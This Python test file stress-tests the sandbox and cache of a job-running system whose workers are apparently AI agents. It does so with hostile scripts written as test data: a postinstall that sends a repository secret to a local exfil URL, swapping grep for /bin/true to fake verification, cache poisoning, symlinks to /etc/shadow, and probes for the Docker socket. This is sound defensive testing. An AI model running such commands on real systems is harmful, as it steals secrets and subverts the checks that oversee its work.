"""Project environments attacked the way a malicious worker (or a malicious manifest in its
snapshot) would, through the real engine, on the throwaway projects of tests/support/projects.py.

Tests marked `xfail(strict=True)` document a hole found in review: each asserts what the product
promises and currently fails; when the hole is fixed the test passes, strict xfail turns that into
a failure, and the marker should be removed. The others show an attack that held."""

from __future__ import annotations

import hashlib
import json
import os
import threading
from pathlib import Path

import pytest
from support.env_specs import node_spec
from support.repos import commit_files, git
from support.tasks import mock_task, run_spec, task_events, write_spec
from support.waiting import poll

pytestmark = pytest.mark.usefixtures("docker_images", "pruned")

HOLE = "review of issue 12: "


@pytest.fixture
def pruned(cli, home):
    """Every cache entry and setup image this test's state root made goes at the end (image
    tags are global to the engine; a test must not leave one behind for the next session)."""
    yield
    cli("environments", "prune", "--all", "--apply", env={"WORKER_BRIDGE_HOME": str(home)})


def _package_with_scripts(repo: Path, **scripts: str) -> str:
    package = json.loads((repo / "package.json").read_text())
    package.setdefault("scripts", {}).update(scripts)
    return json.dumps(package, indent=2) + "\n"


# -- verification sees what the worker shipped ------------------------------------------------


def test_a_worker_that_unignores_node_modules_ships_its_dependency_into_verification(
    cli, workdir, env, node_repo, env_image
):
    forged = (
        "module.exports = (v, w, f) => String(v).padStart(w, f === undefined ? ' ' : f);\n"
        "module.exports.VERSION = 'FORGED';\n"
    )
    script = (
        "printf 'node_modules/*\\n!node_modules/wb-left-pad/\\n' > .gitignore"
        " && rm -rf node_modules/wb-left-pad && mkdir node_modules/wb-left-pad"
        f' && printf %s "{forged}" > node_modules/wb-left-pad/index.js'
    )
    result = run_spec(cli, workdir, node_spec(node_repo, env_image, {"script": script}), env)
    # The worker's own copy of a dependency never reaches verification: the change is refused.
    assert any(c["path"] == "node_modules/wb-left-pad/index.js" for c in result["changed_files"])
    assert result["status"] == "failed"
    assert result["error"]["kind"] == "protected_path"
    assert "node_modules/wb-left-pad/index.js" in result["error"]["message"]
    assert result["verification"] is None or result["verification"]["commands"] == []


def test_a_worker_postinstall_cannot_rewrite_the_tools_verification_runs(
    cli, workdir, env, node_repo, env_image
):
    commit_files(node_repo, {"answer.txt": "wrong\n"}, "the answer")
    evil = 'g=$(command -v grep) && rm -f "$g" && cp /bin/true "$g"'
    package = _package_with_scripts(node_repo, postinstall=evil)
    # The task may reach the registry, so its snapshot's setup can too: the install runs.
    spec = node_spec(
        node_repo,
        env_image,
        {"write": {"package.json": package}},
        network={"mode": "allowlist", "domains": ["localhost"]},
    )
    spec["verification"] = {
        "commands": ["grep -qx right answer.txt"],
        "protected_paths": ["answer.txt"],
    }
    result = run_spec(cli, workdir, spec, env)
    # The postinstall ran as the sandbox user on a read-only image: grep stays grep, and the
    # snapshot's setup (so its verification) fails.
    assert result["verification"]["environment"]["setup"] == "failed_for_snapshot"
    assert result["verification"]["ok"] is False, result["verification"]
    assert result["error"]["kind"] == "environment"
    assert "snapshot" in result["error"]["message"]
    assert "Read-only file system" in result["error"]["message"]


def test_a_worker_without_network_cannot_reach_the_setup_network_through_its_manifest(
    cli, workdir, env, server, node_repo, env_image
):
    commit_files(
        node_repo, {"secret.txt": "s3cr3t-of-the-repository\n"}, "a secret in the repository"
    )
    leak = (
        "python3 -c \"import urllib.request as u; u.urlopen('http://localhost:"
        f"{server.port}/exfil-' + open('secret.txt').read().strip(), timeout=20)\" || true"
    )
    package = _package_with_scripts(node_repo, postinstall=leak)
    spec = node_spec(
        node_repo, env_image, {"write": {"package.json": package}}, network={"mode": "none"}
    )
    result = run_spec(cli, workdir, spec, env)
    # The snapshot's setup has no more network than the task: none (npm then cannot fetch).
    assert result["verification"]["environment"]["setup"] == "failed_for_snapshot"
    leaked = [r for r in server.requests if "/exfil-" in r]
    assert leaked == [], leaked


# -- the cache's trust check ------------------------------------------------------------------


@pytest.mark.xfail(
    strict=True,
    reason="accepted, documented in docs/environments.md: the files' digest covers names, "
    "types, modes, owners, sizes and mtimes, not content (reading every byte at every use); "
    "only the host's root can write the sealed files, and it could rewrite entry.json too",
)
def test_a_cache_entry_changed_in_place_keeping_size_and_mode_is_not_trusted(
    cli, workdir, env, node_repo, env_image
):
    first = run_spec(cli, workdir, node_spec(node_repo, env_image), env)
    assert first["status"] == "succeeded", first["error"]
    entry = next((workdir / "home" / "environments").glob("[0-9a-f]*"))
    planted = entry / "outputs" / "node_modules" / "wb-left-pad" / "index.js"
    before = planted.stat()
    text = planted.read_text()
    poisoned = text.replace('VERSION = "1.0.0"', 'VERSION = "POISN"')
    assert poisoned != text and len(poisoned) == len(text)
    planted.chmod(0o644)
    planted.write_text(poisoned)
    planted.chmod(before.st_mode & 0o7777)
    os.utime(planted, ns=(before.st_atime_ns, before.st_mtime_ns))

    second = run_spec(cli, workdir, node_spec(node_repo, env_image), env)
    tail = second["verification"]["commands"][0]["stdout_tail"]
    assert "POISN" not in tail, tail  # today: "ok: wb-left-pad POISN"
    assert second["verification"]["environment"]["setup"] == "ran"


def test_a_setup_on_an_untrusted_branch_cannot_poison_the_cache_of_main(
    cli, workdir, env, node_repo, env_image
):
    package = _package_with_scripts(node_repo, postinstall="sh scripts/post.sh")
    (node_repo / "scripts").mkdir()
    commit_files(node_repo, {"package.json": package, "scripts/post.sh": "true\n"}, "a postinstall")
    git(node_repo, "checkout", "-qb", "pr")
    forged = (
        "printf '%s\\n' \"module.exports = (v, w, f) => String(v).padStart(w, f);\" "
        "\"module.exports.VERSION = 'FROM-PR';\" > node_modules/wb-left-pad/index.js\n"
    )
    commit_files(node_repo, {"scripts/post.sh": forged}, "the contributor's change")
    git(node_repo, "checkout", "-q", "main")

    on_pr = node_spec(node_repo, env_image)
    on_pr["workspace"]["base_ref"] = "pr"
    first = run_spec(cli, workdir, on_pr, env)
    assert first["status"] == "succeeded", first["error"]
    assert "FROM-PR" in first["verification"]["commands"][0]["stdout_tail"], first
    on_main = run_spec(cli, workdir, node_spec(node_repo, env_image), env)
    tail = on_main["verification"]["commands"][0]["stdout_tail"]
    assert "ok: wb-left-pad 1.0.0" in tail, tail  # today: "ok: wb-left-pad FROM-PR"
    assert on_main["verification"]["environment"]["setup"] == "ran"


# -- limits ------------------------------------------------------------------------------------


def test_a_setup_writing_outside_the_repository_is_held_to_the_disk_limit(
    cli, workdir, env, repo, env_image
):
    spec = mock_task(repo, {"write": {"a.txt": "a\n"}}, verify=["true"], limits={"disk_mb": 16})
    spec["environment"] = {
        "image": env_image,
        "setup": [f"dd if=/dev/zero of=/var/tmp/wb-big-{os.urandom(4).hex()} bs=1M count=64"],
    }
    result = run_spec(cli, workdir, spec, env)
    assert result["status"] == "failed", result["verification"]
    assert result["error"]["kind"] == "disk"


# -- two state roots on one engine ------------------------------------------------------------


def test_two_state_roots_sharing_an_engine_keep_each_others_cache(
    cli, workdir, env, repo, env_image
):
    """Found in review (the setup image tag was the key's alone, global to the engine: the
    second root retagged it, the first's entry failed its check and its removal deleted the
    other's image); fixed in 5c26761 (the tag carries the state root's id)."""
    from bridge.sandbox import DockerSandbox, home_id

    other = workdir / "home-2"
    other.mkdir()
    (other / "config.yaml").write_text((workdir / "home" / "config.yaml").read_text())
    spec = mock_task(repo, {"write": {"a.txt": "a\n"}}, verify=["true"])
    spec["environment"] = {"image": env_image, "setup": [f"touch /wb-{os.urandom(6).hex()}"]}
    b_env = {**env, "WORKER_BRIDGE_HOME": str(other)}
    try:
        first = run_spec(cli, workdir, spec, env)
        assert first["verification"]["environment"]["setup"] == "ran", first["error"]
        on_other = run_spec(cli, workdir, spec, b_env)
        assert on_other["verification"]["environment"]["setup"] == "ran", on_other["error"]
        again = run_spec(cli, workdir, spec, env)
        log = [e["kind"] for e in task_events(cli, again["task_id"], env)]
        assert "environment.cache_corrupt" not in log, log
        assert again["verification"]["environment"]["setup"] == "cached"
    finally:
        cli("environments", "prune", "--all", "--apply", env=b_env)
        DockerSandbox().remove_by_labels({"io.worker-bridge.home": home_id(other)})


# -- what a worker can put in a path --------------------------------------------------------------


def test_dependency_files_with_odd_names_do_not_leak_or_break_the_task_result(
    cli, workdir, env, server, node_repo, env_image
):
    import pydantic_core

    from bridge import WorkerBridge

    token = "sk-" + "A1b2C3d4" * 3
    script = (
        f"mkdir {token} && echo '{{}}' > {token}/package.json"
        " && d=$(printf 'v\\377') && mkdir \"$d\" && echo '{}' > \"$d/package.json\""
    )
    result = run_spec(cli, workdir, node_spec(node_repo, env_image, {"script": script}), env)
    setup = result["verification"]["environment"]["setup"]
    assert setup in ("ran_for_snapshot", "failed_for_snapshot"), result["verification"]
    assert token not in json.dumps(result["changed_files"])  # redacted there
    bridge = WorkerBridge(home=workdir / "home")
    try:
        document = bridge.get_task(result["task_id"]).document()
        listing = {"tasks": [t.document() for t in bridge.list_tasks(None, 20)]}
    finally:
        bridge.close()
    assert token not in json.dumps(document), document["verification"]["environment"]
    # What the MCP server does with a tool's dict result (mcp/.../func_metadata.py).
    pydantic_core.to_json(document, fallback=str, indent=2)
    pydantic_core.to_json(listing, fallback=str, indent=2)


# -- prune while a task uses its environment ----------------------------------------------------


def test_prune_leaves_the_image_a_running_verification_uses(
    cli, workdir, env, node_repo, env_image, home
):
    """Found in review (prune took a task-private setup image for an orphan, no shared entry
    naming it, and removed it while the task verified in it: the next command failed with
    "Image ... is not present; build it first."); fixed in c214afb. A task whose base does not
    contain the commit the shared entry was made from sets up task-privately."""
    from bridge.sandbox import DockerSandbox, home_id

    commit_files(node_repo, {"NOTES.md": "later\n"}, "a later commit on main")
    assert run_spec(cli, workdir, node_spec(node_repo, env_image), env)["status"] == "succeeded"
    spec = node_spec(node_repo, env_image)
    spec["workspace"]["base_ref"] = "HEAD~1"  # does not contain the entry's commit
    spec["verification"]["commands"] = ["sleep 8", "npm test"]
    path = write_spec(workdir / "spec-prune.json", spec)
    task_id = cli("tasks", "create", "--spec", str(path), env=env).stdout.strip()
    assert task_id
    runner = threading.Thread(
        target=lambda: cli("tasks", "start", task_id, "--wait", env=env, timeout=400)
    )
    runner.start()
    sandbox = DockerSandbox()
    labels = {"io.worker-bridge.home": home_id(home), "io.worker-bridge.role": "verify"}
    try:
        poll(lambda: any(c.state == "running" for c in sandbox.containers(labels)), "verify", 120)
        mine = [
            tag
            for image in sandbox.images({"io.worker-bridge.home": home_id(home)})
            for tag in image.tags
            if tag.endswith(task_id)
        ]
        assert len(mine) == 1, mine  # the task-private setup image verification runs in
        pruned = cli("environments", "prune", "--all", "--apply", "--json", env=env).json()
        assert [a for a in pruned["actions"] if a["target"] == mine[0]] == []
        assert [a["kind"] for a in pruned["actions"]] == ["entry"]  # the shared one goes
        assert sandbox.inspect_image(mine[0]) is not None
    finally:
        runner.join(120)
    done = json.loads(cli("tasks", "show", task_id, "--json", env=env).stdout)
    assert done["status"] == "succeeded", done["error"]
    assert done["verification"]["environment"]["setup"] == "ran"
    assert sandbox.inspect_image(mine[0]) is None  # gone with the task


def test_a_setup_failing_after_two_committed_commands_leaves_no_image(
    cli, workdir, env, repo, env_image, home
):
    """Each command's container is committed to the same tag; when a later one fails, the
    earlier images (untagged parents by then) go too: nothing of the setup stays in the engine,
    tagged or not."""
    from bridge.sandbox import DockerSandbox, home_id

    mark = os.urandom(4).hex()
    spec = mock_task(repo, {"write": {"a.txt": "a\n"}}, verify=["true"])
    spec["environment"] = {
        "image": env_image,
        "setup": [f"touch /wb-a-{mark}", f"touch /wb-b-{mark}", "exit 3"],
    }
    result = run_spec(cli, workdir, spec, env)
    assert result["error"]["kind"] == "environment", result["error"]
    labels = {"io.worker-bridge.home": home_id(home), "io.worker-bridge.role": "environment"}
    assert DockerSandbox().images(labels) == []


# -- attacks that held ----------------------------------------------------------------------------


def test_a_worker_cannot_change_a_cached_file_through_its_hard_link(
    cli, workdir, env, node_repo, env_image
):
    """chmod, utime, truncate, a hard link of its own, writing, renaming over: each refused or
    harmless to the cache, whose files keep their content, and whose entry stays whole."""
    from bridge.environments.cache import check_entry, load_entry
    from bridge.environments.digest import files_changed
    from bridge.sandbox import DockerSandbox

    f = "node_modules/wb-left-pad/index.js"
    attempts = {
        "chmod": f"chmod 666 {f}",
        "utime": f"touch -d 2001-01-01 {f}",
        "truncate": f"truncate -s 0 {f}",
        "append": f"echo x >> {f}",
        "hardlink": f"ln {f} linked.js && echo x >> linked.js",
        "chown": f"chown $(id -u) {f}",
        "setfattr": f"python3 -c \"import os; os.setxattr('{f}', 'user.x', b'1')\"",
    }
    script = "".join(
        f"if ({command}) 2>/dev/null; then echo {name} >> worked.txt; fi; "
        for name, command in attempts.items()
    )
    script += f"mv -f {f} moved.js; echo 'changed' > {f}; true"
    result = run_spec(cli, workdir, node_spec(node_repo, env_image, {"script": script}), env)
    assert result["status"] == "succeeded", result["error"]
    worked = git(node_repo, "show", f"{result['branch']}:worked.txt", check=False)
    assert worked == "", worked
    entry = load_entry(next((workdir / "home" / "environments").glob("[0-9a-f]*")))
    assert entry is not None

    def image_id(ref):
        info = DockerSandbox().inspect_image(ref)
        return info.id if info else None

    assert check_entry(entry, image_id) is None and files_changed(entry) is None
    cached = (entry.outputs / f).read_bytes()
    assert b'module.exports.VERSION = "1.0.0"' in cached
    assert (
        hashlib.sha256(cached).hexdigest()
        == hashlib.sha256(
            git(node_repo, "show", f"{result['branch']}:moved.js").encode()
        ).hexdigest()
    )


def test_setup_cannot_write_its_read_only_mounts_nor_use_a_model_route(
    cli, workdir, env, repo, env_image, server
):
    """The setup (root in its container) cannot write the worker's bundle or the gateway's
    folder, finds no engine socket, and its gateway answers no model route (the task's worker
    has one)."""
    probe = (
        "python3 - <<'EOF'\n"
        "import json, os, urllib.request\n"
        "out = {}\n"
        "for name, path in (('bundle', '/opt/worker-bridge/bin/wb-pwn'),\n"
        "                   ('gateway', '/run/worker-bridge/pwn')):\n"
        "    try:\n"
        "        open(path, 'w').write('x'); out[name] = 'written'\n"
        "    except OSError as exc:\n"
        "        out[name] = exc.__class__.__name__\n"
        "out['docker'] = os.path.exists('/var/run/docker.sock')\n"
        "opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
        "try:\n"
        "    out['route'] = opener.open('http://127.0.0.1:7800/test/wb-route-probe',\n"
        "                               timeout=10).status\n"
        "except Exception as exc:\n"
        "    out['route'] = str(exc)\n"
        "open('.held.json', 'w').write(json.dumps(out))\n"
        "EOF"
    )
    commit_files(repo, {".gitignore": ".held.json\n"}, "ignore the probe")
    spec = mock_task(repo, {"write": {"a.txt": "a\n"}, "routes": ["test"]}, verify=["true"])
    spec["environment"] = {"image": env_image, "setup": [probe], "setup_network": ["localhost"]}
    result = run_spec(cli, workdir, spec, env)
    assert result["status"] == "succeeded", result["error"]
    entry = next((workdir / "home" / "environments").glob("[0-9a-f]*"))
    out = json.loads((entry / "outputs" / ".held.json").read_text())
    assert out["bundle"] in ("OSError", "PermissionError"), out
    assert out["gateway"] in ("OSError", "PermissionError"), out
    assert out["docker"] is False
    assert "wb-route-probe" not in " ".join(server.requests)
    assert out["route"] != 200, out


def test_odd_files_a_setup_leaves_are_cached_safely_or_not_at_all(
    cli, workdir, env, repo, env_image
):
    """A setup (root in its container) leaves, in an ignored folder: a FIFO, a socket, a name
    with a newline and a byte that is not UTF-8, links out of the repository (absolute and
    relative), a deep tree, a folder and the checkout itself made unreadable. The entry keeps
    the files and links (as links), drops the special files, and the task runs on."""
    from bridge.workspace.fs import walk_all

    setup = (
        "mkdir -p build/deep && cd build"
        " && mkfifo fifo"
        " && python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('sock')\""
        " && printf x > \"$(printf 'odd\\nname\\377')\""
        " && ln -s /etc/shadow abs-link && ln -s ../../../../.. rel-link"
        " && (cd deep && for i in $(seq 300); do mkdir d && cd d; done && echo bottom > f)"
        " && mkdir locked && echo secret > locked/f && chmod 000 locked/f locked"
        " && chmod 000 /workspace"
    )
    commit_files(repo, {".gitignore": "build/\n"}, "ignore build")
    script = (
        "ls build | LC_ALL=C tr -cd '[:print:]\\n' > seen.txt;"
        " test -L build/abs-link && echo abs-is-link >> seen.txt"
    )
    spec = mock_task(repo, {"script": script}, verify=["test -L build/rel-link"])
    spec["environment"] = {"image": env_image, "setup": [setup]}
    result = run_spec(cli, workdir, spec, env)
    assert result["status"] == "succeeded", result["error"]
    assert result["verification"]["ok"] is True
    entry = next((workdir / "home" / "environments").glob("[0-9a-f]*"))
    kinds = {}
    for rel, st in walk_all(entry / "outputs"):
        kinds[rel] = st.st_mode & 0o170000
    assert "build/fifo" not in kinds and "build/sock" not in kinds
    assert kinds["build/abs-link"] == 0o120000 and kinds["build/rel-link"] == 0o120000
    assert "build/odd\nname\udcff" in kinds
    assert any(rel.endswith("/f") and rel.count("/") > 300 for rel in kinds)
    seen = git(repo, "show", f"{result['branch']}:seen.txt")
    assert "abs-is-link" in seen and "locked" in seen


def test_a_worker_cannot_change_a_sealed_view_nor_what_later_tasks_are_given(
    cli, workdir, env, node_repo, env_image
):
    """Once the entry's view is sealed (its second task), the worker's node_modules has a
    read-only EROFS image below it. Writes in place, chmod, utime, a hard link, a FIFO, a device,
    a mount, a link to the image's host path and a process left running: each refused or
    landing in the task's own layer; the image keeps its identity and the next task is given
    the same sealed view, with the genuine files."""
    from bridge.environments import sealed

    if not sealed.sealing_available():
        pytest.skip("needs mkfs.erofs and the kernel's erofs (CI requires them)")
    spec = node_spec(node_repo, env_image)
    for _ in range(2):  # set up; checked whole and sealed
        assert run_spec(cli, workdir, spec, env)["status"] == "succeeded"
    (image,) = (workdir / "home" / "bases" / "env").glob(f"*/{sealed.IMAGE}")
    before = image.lstat()
    f = "node_modules/wb-left-pad/index.js"
    attempts = {
        "write": f"echo x >> {f}",
        "chmod": f"chmod 666 {f}",
        "utime": f"touch -d 2001-01-01 {f}",
        "hardlink": f"ln {f} linked.js && echo x >> linked.js",
        "mknod": "mknod node_modules/dev b 7 0",
        "mount": "mount -t tmpfs tmpfs node_modules",
        "image": f"echo x >> {image}",
    }
    script = "".join(
        f"if ({command}) 2>/dev/null; then echo {name} >> worked.txt; fi; "
        for name, command in attempts.items()
    )
    script += (
        f"mkfifo node_modules/fifo; ln -s {image} node_modules/image; "
        f"rm -f {f}; echo \"module.exports = () => 'POISONED';\" > {f}; "
        "(sleep 300 &); npm test > result.txt 2>&1; true"
    )
    done = run_spec(cli, workdir, node_spec(node_repo, env_image, {"script": script}), env)
    assert done["status"] == "succeeded", done["error"]
    assert git(node_repo, "show", f"{done['branch']}:worked.txt", check=False) == ""
    assert "POISONED" in git(node_repo, "show", f"{done['branch']}:result.txt")  # its own tree
    tail = done["verification"]["commands"][0]["stdout_tail"]
    assert "ok: wb-left-pad 1.0.0" in tail, tail  # verification: the sealed image's files
    after = image.lstat()
    assert (after.st_ino, after.st_size, after.st_mtime_ns, after.st_ctime_ns) == (
        before.st_ino,
        before.st_size,
        before.st_mtime_ns,
        before.st_ctime_ns,
    )
    again = run_spec(cli, workdir, spec, env)
    log = task_events(cli, again["task_id"], env)
    assert [e["data"]["sealed"] for e in log if e["kind"] == "environment.cached"] == [True]
    assert not [e for e in log if e["kind"] == "environment.cache_corrupt"]
    assert "ok: wb-left-pad 1.0.0" in again["verification"]["commands"][0]["stdout_tail"]


def test_a_worker_cannot_reach_the_checkout_verification_prepares_while_it_runs(
    cli, workdir, env, node_repo, env_image
):
    """Verification's layered checkout is mounted over the very view of the cached files the
    worker's tree is over, while the worker runs (bridge/pipeline/checkout.py). A worker that
    poisons node_modules every way it can (a file replaced, a FIFO, a link out, a device, a
    name that is not UTF-8, a nested .git and attributes with a filter, a 50 MB file, a process
    left running) changes its own tree alone: the first check, on that prepared checkout, sees
    the cache's files and none of what the worker planted. (Its third task: the first sets up,
    the second checks the entry whole and seals its view, the third is as every later one.)"""
    for _ in range(2):
        assert run_spec(cli, workdir, node_spec(node_repo, env_image), env)["status"] == "succeeded"
    f = "node_modules/wb-left-pad/index.js"
    script = (
        f"rm -f {f}; echo \"module.exports = () => 'POISONED';\" > {f}; "
        "mkfifo node_modules/planted-fifo; ln -s /etc/passwd node_modules/planted-link; "
        "mknod node_modules/planted-dev b 7 0 2>/dev/null; "
        "printf x > \"node_modules/planted-$(printf 'caf\\351')\"; "
        "mkdir -p node_modules/planted-nested/.git; "
        "echo '* filter=evil' > node_modules/.gitattributes; "
        "head -c 50000000 /dev/zero > node_modules/planted-huge.bin; "
        "(sleep 300 &); npm test > result.txt 2>&1; true"
    )
    spec = node_spec(node_repo, env_image, {"script": script})
    spec["verification"]["commands"] = ["npm test && ls -a node_modules"]
    done = run_spec(cli, workdir, spec, env)
    assert done["status"] == "succeeded", done["error"]
    assert "POISONED" in git(node_repo, "show", f"{done['branch']}:result.txt")  # its own tree
    log = task_events(cli, done["task_id"], env)
    (checkout,) = [e["data"] for e in log if e["kind"] == "verification.checkout"]
    assert checkout["checkout"] == "layered", checkout
    tail = done["verification"]["commands"][0]["stdout_tail"]
    assert "ok: wb-left-pad 1.0.0" in tail and "POISONED" not in tail, tail
    assert "planted" not in tail and ".gitattributes" not in tail, tail
